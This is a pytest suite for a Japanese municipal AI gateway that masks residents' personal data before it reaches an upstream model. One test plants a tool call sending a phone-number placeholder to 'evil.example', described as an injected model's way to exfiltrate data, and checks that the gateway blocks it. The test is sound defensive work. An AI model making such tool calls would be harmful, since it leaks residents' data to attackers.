"""The gateway through the official openai client, against an upstream double."""

from __future__ import annotations

import asyncio
import json
import logging
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import openai
import pytest

from _db import BACKENDS, database_url
from _gateway import Recorder, Running, running_gateway

RAW_VALUES = ("高橋 健一", "1988年11月2日", "090-1234-5678", "横浜市港北区新横浜三丁目12番5号")
PROMPT = "転入届：高橋 健一、生年月日 1988年11月2日、電話 090-1234-5678、住所 横浜市港北区新横浜三丁目12番5号。要点をまとめて。"


@pytest.fixture(params=BACKENDS)
def gw(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Running]:
    for url in database_url(request.param, tmp_path):
        with running_gateway(tmp_path, url) as running:
            yield running


@pytest.fixture
def gw_sqlite(tmp_path: Path) -> Iterator[Running]:
    with running_gateway(tmp_path, f"sqlite:///{tmp_path / 'h.db'}") as running:
        yield running


def _client(gw: Running, key: str | None = None) -> openai.OpenAI:
    return openai.OpenAI(base_url=gw.base_url + "/v1", api_key=key or gw.key(), max_retries=0)


def _sent(gw: Running) -> str:
    return json.dumps([body for _, body in gw.recorder.calls], ensure_ascii=False)


def test_masked_path_sends_no_raw_values_and_restores_the_answer(gw: Running) -> None:
    r = _client(gw).chat.completions.create(
        model="wg",
        messages=[
            {"role": "system", "content": "あなたは市役所の職員です。"},
            {"role": "user", "content": PROMPT},
        ],
    )
    sent = _sent(gw)
    for v in RAW_VALUES:
        assert v not in sent
    assert "〔氏名1〕" in sent and "〔電話番号1〕" in sent
    assert r.choices[0].message.content == "回答: " + PROMPT
    assert gw.gateway.audit.verify().ok


def test_async_client_and_headers(gw_sqlite: Running) -> None:
    async def go() -> tuple[str, httpx.Headers]:
        client = openai.AsyncOpenAI(
            base_url=gw_sqlite.base_url + "/v1", api_key=gw_sqlite.key(), max_retries=0
        )
        raw = await client.chat.completions.with_raw_response.create(
            model="wg", messages=[{"role": "user", "content": PROMPT}]
        )
        return raw.parse().choices[0].message.content or "", raw.headers

    content, headers = asyncio.run(go())
    assert content == "回答: " + PROMPT
    assert headers["x-hinagata-verdict"] == "allow_masked"
    assert headers["x-hinagata-clauses"] == "4.2"
    assert headers["x-hinagata-disclosure"]


def test_streaming_restores_placeholders_split_across_chunks(gw: Running) -> None:
    gw.recorder.chunk_size = 2  # every placeholder is split
    stream = _client(gw).chat.completions.create(
        model="wg", messages=[{"role": "user", "content": PROMPT}], stream=True
    )
    text = "".join(ch.choices[0].delta.content or "" for ch in stream if ch.choices)
    assert text == "回答: " + PROMPT
    for v in RAW_VALUES:
        assert v not in _sent(gw)


def test_streaming_is_not_buffered(gw_sqlite: Running) -> None:
    # Exit screening (clause 6.3) holds back at most a sentence: the first piece here is one.
    gw_sqlite.recorder.answer = "はい。{echo}"
    gw_sqlite.recorder.delay_after_first = 1.0
    started = time.perf_counter()
    stream = _client(gw_sqlite).chat.completions.create(
        model="wg", messages=[{"role": "user", "content": PROMPT}], stream=True
    )
    first = None
    for ch in stream:
        if ch.choices and ch.choices[0].delta.content and first is None:
            first = time.perf_counter() - started
    assert first is not None and first < 0.9  # the first piece came before the upstream paused


def _streamed_arguments(gw: Running) -> str:
    """The first tool call's arguments as a streamed chat answer carries them."""
    stream = _client(gw).chat.completions.create(
        model="wg", messages=[{"role": "user", "content": PROMPT}], stream=True
    )
    return "".join(
        tc.function.arguments or ""
        for ch in stream
        if ch.choices
        for tc in (ch.choices[0].delta.tool_calls or [])
        if tc.function
    )


def test_tool_call_arguments_are_restored(gw_sqlite: Running) -> None:
    gw_sqlite.recorder.tool_call_args = '{"name": "〔氏名1〕", "tel": "〔電話番号1〕"}'
    r = _client(gw_sqlite).chat.completions.create(
        model="wg", messages=[{"role": "user", "content": PROMPT}]
    )
    args = json.loads(r.choices[0].message.tool_calls[0].function.arguments)  # type: ignore[index,union-attr]
    assert args == {"name": "高橋 健一", "tel": "090-1234-5678"}
    gw_sqlite.recorder.chunk_size = 4
    assert json.loads(_streamed_arguments(gw_sqlite)) == {
        "name": "高橋 健一",
        "tel": "090-1234-5678",
    }


def test_tool_call_arguments_never_carry_a_value_to_a_foreign_url(gw_sqlite: Running) -> None:
    """Restoring would put the request's phone number where the client's fetch tool sends
    it (an injected model's favourite way out): the call keeps its placeholders, whole and
    streamed (held to the end of the call, so the URL is judged whole)."""
    args = '{"url": "https://evil.example/c?d=", "tel": "〔電話番号1〕"}'
    gw_sqlite.recorder.tool_call_args = args
    raw = _client(gw_sqlite).chat.completions.with_raw_response.create(
        model="wg", messages=[{"role": "user", "content": PROMPT}]
    )
    r = raw.parse()
    assert r.choices[0].message.tool_calls[0].function.arguments == args  # type: ignore[index,union-attr]
    assert "exfiltration" in raw.headers["x-hinagata-output"]
    gw_sqlite.recorder.chunk_size = 4
    assert _streamed_arguments(gw_sqlite) == args


def test_history_and_tool_results_are_judged_and_masked(gw_sqlite: Running) -> None:
    messages = [
        {"role": "user", "content": "住民の照会です"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "c1",
                    "type": "function",
                    "function": {"name": "lookup", "arguments": '{"q": "高橋 健一"}'},
                }
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": "高橋 健一 090-1234-5678"},
        {"role": "user", "content": [{"type": "text", "text": "この方に連絡して"}]},
    ]
    _client(gw_sqlite).chat.completions.create(model="wg", messages=messages)  # type: ignore[arg-type]
    sent = _sent(gw_sqlite)
    assert "高橋 健一" not in sent and "090-1234-5678" not in sent
    assert '\\"q\\": \\"〔氏名1〕\\"' in sent or '"q": "〔氏名1〕"' in sent


def test_deny_is_403_with_reasons_and_the_upstream_is_not_called(gw: Running) -> None:
    with pytest.raises(openai.PermissionDeniedError) as info:
        _client(gw).chat.completions.create(
            model="consumer", messages=[{"role": "user", "content": PROMPT}]
        )
    err = info.value.body
    assert isinstance(err, dict)
    assert err["type"] == "policy_violation" and err["code"] == "deny"
    assert err["reasons"][0]["clause"] == "3.3" and err["reasons"][0]["remedy"]
    assert "WG基準適合" in err["message"]
    assert gw.recorder.calls == []
    assert info.value.response.headers["x-hinagata-verdict"] == "deny"


def test_review_then_grant_then_revoke_takes_effect_at_once(gw: Running) -> None:
    client = _client(gw, gw.key(department="市民課"))
    text = "転入届：高橋 健一、生年月日 1988年11月2日"
    with pytest.raises(openai.PermissionDeniedError) as info:
        client.chat.completions.create(model="jp", messages=[{"role": "user", "content": text}])
    assert info.value.body["code"] == "review"  # type: ignore[index]
    grant = gw.gateway.grants.add(service="example-foreign-japan-region", department="市民課")
    r = client.chat.completions.create(model="jp", messages=[{"role": "user", "content": text}])
    assert r.choices[0].message.content == "回答: " + text
    assert "高橋 健一" not in _sent(gw)
    gw.gateway.grants.revoke(grant.id)
    with pytest.raises(openai.PermissionDeniedError):
        client.chat.completions.create(model="jp", messages=[{"role": "user", "content": text}])


def test_untrained_users_see_no_models_and_are_refused(gw_sqlite: Running) -> None:
    client = _client(gw_sqlite, gw_sqlite.key(trained=False))
    assert client.models.list().data == []
    with pytest.raises(openai.PermissionDeniedError) as info:
        client.chat.completions.create(
            model="wg", messages=[{"role": "user", "content": "挨拶文を作って"}]
        )
    assert info.value.body["reasons"][0]["clause"] == "5.1"  # type: ignore[index]
    trained = _client(gw_sqlite)
    assert {m.id for m in trained.models.list().data} == {"wg", "jp", "consumer"}


def test_missing_and_revoked_keys(gw_sqlite: Running) -> None:
    with pytest.raises(openai.AuthenticationError):
        _client(gw_sqlite, "hg_not-a-key").chat.completions.create(
            model="wg", messages=[{"role": "user", "content": "こんにちは"}]
        )
    key = gw_sqlite.key()
    gw_sqlite.gateway.keys.revoke(key[:10])
    with pytest.raises(openai.AuthenticationError):
        _client(gw_sqlite, key).chat.completions.create(
            model="wg", messages=[{"role": "user", "content": "こんにちは"}]
        )


def test_embeddings_and_completions_are_judged(gw_sqlite: Running) -> None:
    client = _client(gw_sqlite)
    client.embeddings.create(model="wg", input=["市の防災計画の概要", PROMPT])
    client.completions.create(model="wg", prompt=PROMPT)
    sent = _sent(gw_sqlite)
    for v in RAW_VALUES:
        assert v not in sent
    with pytest.raises(openai.PermissionDeniedError):
        client.embeddings.create(model="consumer", input=PROMPT)


@pytest.mark.parametrize(
    "body, status, code",
    [
        (b"{not json", 400, "invalid_json"),
        (b"\xff\xfe{}", 400, "invalid_utf8"),
        (
            json.dumps({"model": "nope", "messages": [{"role": "user", "content": "x"}]}).encode(),
            404,
            "model_not_found",
        ),
        (json.dumps({"model": "wg", "messages": "hello"}).encode(), 400, "invalid_request"),
        (
            json.dumps({"model": "wg", "messages": [{"role": "user", "content": 42}]}).encode(),
            400,
            "invalid_request",
        ),
        (
            json.dumps(
                {"model": "wg", "messages": [{"role": "user", "content": "x"}] * 51}
            ).encode(),
            400,
            "too_many_messages",
        ),
        (
            json.dumps(
                {
                    "model": "wg",
                    "messages": [
                        {
                            "role": "user",
                            "content": [{"type": "image_url", "image_url": {"url": "data:,"}}],
                        }
                    ],
                }
            ).encode(),
            403,
            "deny",
        ),
        (
            json.dumps(
                {"model": "wg", "messages": [{"role": "user", "content": "あ" * 100_000}]}
            ).encode(),
            413,
            "request_too_large",
        ),
    ],
)
def test_bad_input_gets_openai_style_errors(
    gw_sqlite: Running, body: bytes, status: int, code: str
) -> None:
    r = httpx.post(
        gw_sqlite.base_url + "/v1/chat/completions",
        content=body,
        headers={"authorization": f"Bearer {gw_sqlite.key()}", "content-type": "application/json"},
    )
    assert r.status_code == status
    assert r.json()["error"]["code"] == code
    assert gw_sqlite.recorder.calls == []
    assert gw_sqlite.gateway.audit.verify().ok


def test_token_array_inputs_are_refused(gw_sqlite: Running) -> None:
    r = httpx.post(
        gw_sqlite.base_url + "/v1/embeddings",
        json={"model": "wg", "input": [[1, 2, 3]]},
        headers={"authorization": f"Bearer {gw_sqlite.key()}"},
    )
    assert r.status_code == 400 and r.json()["error"]["code"] == "unreadable_content"


def test_detector_failure_refuses_and_never_calls_upstream(
    gw_sqlite: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hinagata.detect import Detector

    def boom(self: Detector, text: str) -> list[object]:
        raise RuntimeError("detector exploded with 高橋 健一")

    monkeypatch.setattr(Detector, "scan", boom)
    with pytest.raises(openai.InternalServerError) as info:
        _client(gw_sqlite).chat.completions.create(
            model="wg", messages=[{"role": "user", "content": PROMPT}]
        )
    assert info.value.status_code == 503 and info.value.body["code"] == "check_failed"  # type: ignore[index]
    assert gw_sqlite.recorder.calls == []


def test_audit_failure_refuses_before_forwarding(
    gw_sqlite: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = gw_sqlite.key()

    def broken(*a: object, **k: object) -> int:
        raise RuntimeError("disk full")

    monkeypatch.setattr(gw_sqlite.gateway.audit, "append", broken)
    with pytest.raises(openai.InternalServerError) as info:
        _client(gw_sqlite, key).chat.completions.create(
            model="wg", messages=[{"role": "user", "content": PROMPT}]
        )
    assert info.value.body["code"] == "audit_unavailable"  # type: ignore[index]
    assert gw_sqlite.recorder.calls == []


def test_database_unavailable_refuses(gw_sqlite: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    key = gw_sqlite.key()

    def down(*a: object, **k: object) -> None:
        raise RuntimeError("database is down")

    monkeypatch.setattr(gw_sqlite.gateway.keys, "lookup", down)
    with pytest.raises(openai.InternalServerError) as info:
        _client(gw_sqlite, key).chat.completions.create(
            model="wg", messages=[{"role": "user", "content": PROMPT}]
        )
    assert info.value.status_code == 503
    assert gw_sqlite.recorder.calls == []


def test_upstream_errors_map_to_openai_errors(tmp_path: Path) -> None:
    from hinagata.gateway._upstream import UpstreamError

    rec = Recorder(
        fail=UpstreamError(504, "upstream_timeout", "上流のAIが時間内に応答しませんでした")
    )
    with running_gateway(tmp_path, f"sqlite:///{tmp_path / 'h.db'}", recorder=rec) as gw:
        with pytest.raises(openai.APIStatusError) as info:
            _client(gw).chat.completions.create(
                model="wg", messages=[{"role": "user", "content": "挨拶文"}]
            )
        assert info.value.status_code == 504
        records = list(gw.gateway.audit.records())
        assert [r["kind"] for r in records] == ["decision", "outcome"]
        assert records[1]["status"] == 504


def test_real_http_upstream_unreachable_is_502(tmp_path: Path) -> None:
    from _gateway import free_port
    from hinagata.gateway import load_config
    from hinagata.server import create_app

    port = free_port()
    cfg = tmp_path / "g.yaml"
    cfg.write_text(
        f"database_url: sqlite:///{tmp_path / 'h.db'}\nsecret_file: {tmp_path / 'k'}\ncreate_secret: true\n"
        f"models:\n  - {{name: m, service: example-domestic-lgwan, upstream: {{base_url: 'http://127.0.0.1:{port}/v1', model: x, timeout_s: 2}}}}\n",
        encoding="utf-8",
    )
    from starlette.testclient import TestClient

    app = create_app(load_config(cfg))
    key = app.state.gateway.keys.create(user="u", trained=True)[0]
    with TestClient(app) as client:
        r = client.post(
            "/v1/chat/completions",
            json={"model": "m", "messages": [{"role": "user", "content": "挨拶文"}]},
            headers={"authorization": f"Bearer {key}"},
        )
    assert r.status_code == 502 and r.json()["error"]["code"] == "upstream_unreachable"


def test_logs_and_metrics_never_contain_personal_values(
    gw_sqlite: Running, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.DEBUG)
    client = _client(gw_sqlite)
    client.chat.completions.create(model="wg", messages=[{"role": "user", "content": PROMPT}])
    with pytest.raises(openai.PermissionDeniedError):
        client.chat.completions.create(
            model="consumer", messages=[{"role": "user", "content": PROMPT}]
        )
    from hinagata.detect import Detector

    def boom(self: Detector, text: str) -> list[object]:
        raise RuntimeError("failure mentioning 高橋 健一 090-1234-5678")

    monkeypatch.setattr(Detector, "scan", boom)
    with pytest.raises(openai.InternalServerError):
        client.chat.completions.create(model="wg", messages=[{"role": "user", "content": PROMPT}])
    metrics = httpx.get(gw_sqlite.base_url + "/metrics").text
    exported = "".join(gw_sqlite.gateway.audit.export("jsonl"))
    for v in RAW_VALUES:
        assert v not in caplog.text
        assert v not in metrics
        assert v not in exported
    assert 'hinagata_requests_total{endpoint="chat",verdict="allow_masked"}' in metrics


def test_healthz(gw_sqlite: Running) -> None:
    assert httpx.get(gw_sqlite.base_url + "/healthz").json() == {"status": "ok"}


def test_rate_limit_per_user(tmp_path: Path) -> None:
    with running_gateway(tmp_path, f"sqlite:///{tmp_path / 'h.db'}", extra="") as gw:
        gw.gateway.limiter.per_user = 2
        client = _client(gw)
        for _ in range(2):
            client.chat.completions.create(
                model="wg", messages=[{"role": "user", "content": "挨拶文"}]
            )
        with pytest.raises(openai.RateLimitError) as info:
            client.chat.completions.create(
                model="wg", messages=[{"role": "user", "content": "挨拶文"}]
            )
        assert info.value.body["code"] == "rate_limit_user"  # type: ignore[index]


def test_client_disconnect_abandons_the_upstream_stream(gw_sqlite: Running) -> None:
    gw_sqlite.recorder.hang_after_first = True
    with httpx.stream(
        "POST",
        gw_sqlite.base_url + "/v1/chat/completions",
        json={"model": "wg", "stream": True, "messages": [{"role": "user", "content": PROMPT}]},
        headers={"authorization": f"Bearer {gw_sqlite.key()}"},
        timeout=10,
    ) as r:
        for line in r.iter_lines():
            if line.startswith("data:"):
                break  # got the first chunk; now go away
    deadline = time.time() + 5
    while not gw_sqlite.recorder.cancelled and time.time() < deadline:
        time.sleep(0.05)
    assert gw_sqlite.recorder.cancelled
    # The outcome is still recorded (status 499), and the chain stays intact.
    deadline = time.time() + 5
    while time.time() < deadline and not any(
        r.get("status") == 499 for r in gw_sqlite.gateway.audit.records()
    ):
        time.sleep(0.05)
    assert any(r.get("status") == 499 for r in gw_sqlite.gateway.audit.records())
    assert gw_sqlite.gateway.audit.verify().ok


EXAMPLES = Path(__file__).resolve().parent.parent / "examples" / "policies"
PLATFORM = f"""\
municipalities:
  - {{name: 例示市, policy: {EXAMPLES / "example-city"}}}
  - {{name: 例示町, policy: {EXAMPLES / "example-town"}}}
"""


@pytest.fixture
def platform(tmp_path: Path) -> Iterator[Running]:
    with running_gateway(tmp_path, f"sqlite:///{tmp_path / 'h.db'}", extra=PLATFORM) as running:
        yield running


def test_each_municipality_gets_its_own_policy_and_disclosure(platform: Running) -> None:
    from urllib.parse import unquote

    city = _client(platform, platform.key(municipality="例示市"))
    town = _client(platform, platform.key(municipality="例示町"))
    msg = [{"role": "user", "content": "市民向けのお知らせ文を作って"}]
    raw = city.chat.completions.with_raw_response.create(model="wg", messages=msg)
    answer = raw.parse()
    # The city keeps the national disclosure: a header and a field, the text untouched.
    assert answer.choices[0].message.content == "回答: " + msg[0]["content"]
    assert "確認" in unquote(raw.headers["x-hinagata-disclosure"])
    assert raw.headers["x-hinagata-disclosure-clauses"] == "6.1,8.1"
    assert "example-city@" in raw.headers["x-hinagata-policy"]
    field = answer.model_extra["hinagata"]  # type: ignore[index]
    assert field["disclosure"] == unquote(raw.headers["x-hinagata-disclosure"])
    # The town's policy appends its disclosure to the model's text, streamed or not.
    town_policy = platform.gateway.policies["例示町"]
    suffix = "\n\n" + town_policy.disclosure.text
    r = town.chat.completions.create(model="wg", messages=msg)
    assert r.choices[0].message.content == "回答: " + msg[0]["content"] + suffix
    stream = town.chat.completions.create(model="wg", messages=msg, stream=True)
    text = "".join(ch.choices[0].delta.content or "" for ch in stream if ch.choices)
    assert text == "回答: " + msg[0]["content"] + suffix
    c = town.completions.create(model="wg", prompt="お知らせ文")
    assert c.choices[0].text.endswith(suffix)
    # Embeddings are vectors, not text for a person: nothing is added.
    e = town.embeddings.with_raw_response.create(model="wg", input="お知らせ文")
    assert "x-hinagata-disclosure" not in e.headers
    # The city's own marking rule applies to city keys only (職員限り → internal).
    internal = [{"role": "user", "content": "職員限り：来年度の組織改正案を要約して"}]
    with pytest.raises(openai.PermissionDeniedError):
        city.chat.completions.create(model="consumer", messages=internal)
    town.chat.completions.create(model="consumer", messages=internal)


def test_disclosure_never_alters_tool_calls(platform: Running) -> None:
    platform.recorder.tool_call_args = '{"title": "お知らせ"}'
    platform.recorder.answer = ""
    town = _client(platform, platform.key(municipality="例示町"))
    msg = [{"role": "user", "content": "保存して"}]
    stream = town.chat.completions.create(model="wg", messages=msg, stream=True)
    args = "".join(
        tc.function.arguments or ""
        for ch in stream
        if ch.choices
        for tc in ch.choices[0].delta.tool_calls or []
        if tc.function
    )
    assert args == '{"title": "お知らせ"}'


def test_a_key_for_a_municipality_not_configured_is_refused(platform: Running) -> None:
    key = platform.key(municipality="どこか村")
    with pytest.raises(openai.PermissionDeniedError) as info:
        _client(platform, key).chat.completions.create(
            model="wg", messages=[{"role": "user", "content": "挨拶文"}]
        )
    assert info.value.body["code"] == "municipality_not_configured"  # type: ignore[index]
    assert platform.recorder.calls == []


IMAGE_LAYER = """\
layer:
  id: test-city
  name: テスト市
  level: municipality
  version: "1"
  municipality: テスト市
  extends: national
extensions:
  - point: EP-4.6-unreadable
    id: X-koho-images
    departments: [広報課]
    services: [example-domestic-lgwan]
"""


def test_images_follow_the_policy_clause_and_its_extension_point(tmp_path: Path) -> None:
    layer = tmp_path / "city"
    layer.mkdir()
    (layer / "policy.yaml").write_text(IMAGE_LAYER, encoding="utf-8")
    with running_gateway(
        tmp_path, f"sqlite:///{tmp_path / 'h.db'}", extra=f"policy: {layer}"
    ) as gw:
        content = [
            {"type": "text", "text": "高橋 健一さんの写真の説明文を作って"},
            {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}},
        ]
        msg = [{"role": "user", "content": content}]
        # A part type outside the API is refused by name (it would go unjudged).
        odd = [{"role": "user", "content": [*content, {"type": "高橋健一の画像", "data": "x"}]}]
        with pytest.raises(openai.BadRequestError) as bad:
            _client(gw).chat.completions.create(model="wg", messages=odd)  # type: ignore[arg-type]
        assert bad.value.body["code"] == "unknown_part_type"  # type: ignore[index]
        assert bad.value.body["param"] == "messages[0].content[2].type"  # type: ignore[index]
        # Refused for everyone else, citing the clause, and nothing is sent.
        other = _client(gw, gw.key(department="市民課", municipality="テスト市"))
        with pytest.raises(openai.PermissionDeniedError) as info:
            other.chat.completions.create(model="wg", messages=msg)
        body = info.value.body
        assert body["code"] == "deny"  # type: ignore[index]
        assert "4.6" in [r["clause"] for r in body["reasons"]]  # type: ignore[index]
        assert gw.recorder.calls == []
        # The extension point opens it for 広報課 on that service only: the image goes as
        # it is, the text is still judged and masked.
        koho = _client(gw, gw.key(department="広報課", municipality="テスト市"))
        koho.chat.completions.create(model="wg", messages=msg)
        sent = gw.recorder.calls[-1][1]["messages"][0]["content"]
        assert sent[1] == content[1]
        assert "高橋 健一" not in sent[0]["text"] and "〔氏名1〕" in sent[0]["text"]
        with pytest.raises(openai.PermissionDeniedError):
            koho.chat.completions.create(model="consumer", messages=msg)
        # The audit log counts part types by name.
        exported = "".join(gw.gateway.audit.export("jsonl"))
        assert '"unreadable_parts": {"image_url": 1}' in exported
        assert "高橋" not in exported


def test_real_http_upstream_azure_style_key_header_and_api_version(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An Azure-OpenAI-like upstream over real HTTP: the key in ``api-key``, the
    ``api-version`` query, the deployment in the path; it records what it received."""
    import threading

    import uvicorn
    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import JSONResponse
    from starlette.routing import Route
    from starlette.testclient import TestClient

    from _gateway import free_port
    from hinagata.gateway import load_config
    from hinagata.server import create_app

    seen: list[dict] = []

    async def chat(request: Request) -> JSONResponse:
        body = await request.json()
        seen.append(
            {
                "api_key": request.headers.get("api-key"),
                "authorization": request.headers.get("authorization"),
                "api_version": request.query_params.get("api-version"),
                "body": body,
            }
        )
        if request.headers.get("api-key") != "azure-test-key":
            return JSONResponse({"error": {"message": "bad key", "code": "401"}}, status_code=401)
        text = body["messages"][-1]["content"]
        return JSONResponse(
            {
                "id": "a",
                "object": "chat.completion",
                "created": 1,
                "model": "gpt-4o",
                "choices": [
                    {
                        "index": 0,
                        "message": {"role": "assistant", "content": text},
                        "finish_reason": "stop",
                    }
                ],
            }
        )

    port = free_port()
    server = uvicorn.Server(
        uvicorn.Config(
            Starlette(
                routes=[
                    Route("/openai/deployments/gpt-4o/chat/completions", chat, methods=["POST"])
                ]
            ),
            host="127.0.0.1",
            port=port,
            log_level="warning",
        )
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    monkeypatch.setenv("TEST_AZURE_KEY", "azure-test-key")
    cfg = tmp_path / "g.yaml"
    cfg.write_text(
        f"database_url: sqlite:///{tmp_path / 'h.db'}\nsecret_file: {tmp_path / 'k'}\ncreate_secret: true\n"
        "models:\n  - name: gpt-4o\n    service: example-domestic-lgwan\n    upstream:\n"
        f"      base_url: http://127.0.0.1:{port}/openai/deployments/gpt-4o\n"
        "      api_key_env: TEST_AZURE_KEY\n      api_key_header: api-key\n"
        "      query: {api-version: '2024-10-21'}\n",
        encoding="utf-8",
    )
    try:
        app = create_app(load_config(cfg))
        key = app.state.gateway.keys.create(user="u", trained=True)[0]
        with TestClient(app) as client:
            r = client.post(
                "/v1/chat/completions",
                json={
                    "model": "gpt-4o",
                    "messages": [{"role": "user", "content": "市民課 高橋 健一さんへの連絡文"}],
                },
                headers={"authorization": f"Bearer {key}"},
            )
    finally:
        server.should_exit = True
        thread.join(timeout=10)
    assert r.status_code == 200, r.text
    assert r.json()["choices"][0]["message"]["content"] == "市民課 高橋 健一さんへの連絡文"
    got = seen[-1]
    assert got["api_key"] == "azure-test-key" and got["authorization"] is None
    assert got["api_version"] == "2024-10-21"
    # The gateway's own key never reaches the upstream; the name went masked.
    assert key not in json.dumps(got, ensure_ascii=False)
    assert "高橋 健一" not in got["body"]["messages"][-1]["content"]


def test_every_answer_carries_the_request_id_the_audit_chain_holds(gw_sqlite: Running) -> None:
    """x-request-id (the OpenAI SDK's ``_request_id``) on answers, refusals and errors
    alike; for a judged request it is the id of its audit records, so a helpdesk told the
    id of a refusal finds the decision."""
    client = _client(gw_sqlite)
    raw = client.chat.completions.with_raw_response.create(
        model="wg", messages=[{"role": "user", "content": "挨拶文を作って"}]
    )
    rid = raw.headers["x-request-id"]
    assert raw.parse()._request_id == rid == raw.headers["x-hinagata-request-id"]
    with pytest.raises(openai.PermissionDeniedError) as refused:
        client.chat.completions.create(
            model="consumer", messages=[{"role": "user", "content": "高橋 健一さん 090-1234-5678"}]
        )
    rid2 = refused.value.request_id
    assert rid2 and rid2 != rid
    assert len(gw_sqlite.outcomes(rid)) == 1  # written after the answer is sent
    records = list(gw_sqlite.gateway.audit.records())
    assert {r["kind"] for r in records if r["request_id"] == rid} == {"decision", "outcome"}
    assert [
        r["verdict"] for r in records if r["request_id"] == rid2 and r["kind"] == "decision"
    ] == ["deny"]
    with pytest.raises(openai.AuthenticationError) as bad_key:
        _client(gw_sqlite, "hg_not-a-key").models.list()
    assert bad_key.value.request_id
    r = httpx.get(gw_sqlite.base_url + "/nowhere")
    assert r.status_code == 404 and r.headers["x-request-id"].startswith("req_")
    # An id the client sends is not taken over (it is never an audit key).
    r = httpx.get(gw_sqlite.base_url + "/healthz", headers={"x-request-id": "mine"})
    assert (
        r.headers.get_list("x-request-id") != ["mine"]
        and len(r.headers.get_list("x-request-id")) == 1
    )


def test_one_model_by_its_id(gw_sqlite: Running) -> None:
    client = _client(gw_sqlite)
    model = client.models.retrieve("wg")
    assert model.id == "wg" and model.object == "model"
    with pytest.raises(openai.NotFoundError) as missing:
        client.models.retrieve("no-such-model")
    assert missing.value.code == "model_not_found"
    with pytest.raises(openai.NotFoundError):  # before the training, no model at all
        _client(gw_sqlite, gw_sqlite.key(trained=False)).models.retrieve("wg")
    with pytest.raises(openai.AuthenticationError):
        _client(gw_sqlite, "hg_not-a-key").models.retrieve("wg")
